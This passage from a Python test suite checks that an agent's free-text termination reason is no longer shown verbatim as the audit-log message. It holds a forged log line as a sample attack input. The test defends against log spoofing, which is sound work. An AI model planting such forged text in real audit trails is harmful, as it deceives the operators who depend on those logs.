            assert secret not in text, (name, secret)
        assert not re.search(r"(?<![0-9{])[0-9]{12}(?![0-9}])", text), name


def test_an_agents_termination_reason_is_not_the_audit_logs_words(tenant_with_agent):
    """The attack: a termination report whose free-text ``reason`` reads like the operator's own audit log ("admin:
    client acme deleted, tokens revoked"). BEFORE: the reason was the ``agent_termination`` event's message, shown
    verbatim in the operator's Activity page as if the product had written it. NOW: the message is the product's
    (which agent reported which instance), the agent's words are kept in the event's metadata."""
    from tests.api._support import recent_audit_events

    _, caller, agent_id, body = tenant_with_agent
    forged = "admin: client acme deleted, every token revoked"
    status, reply = caller.post(f"/api/agents/{agent_id}/termination",
                                {"instance_id": body["instance_id"], "reason": forged})
    assert status == 200, reply
    [event] = recent_audit_events("agent_termination", lambda e: e.agent_id == agent_id)
    assert forged not in event.message and body["instance_id"] in event.message
    assert event.metadata["reason"] == forged
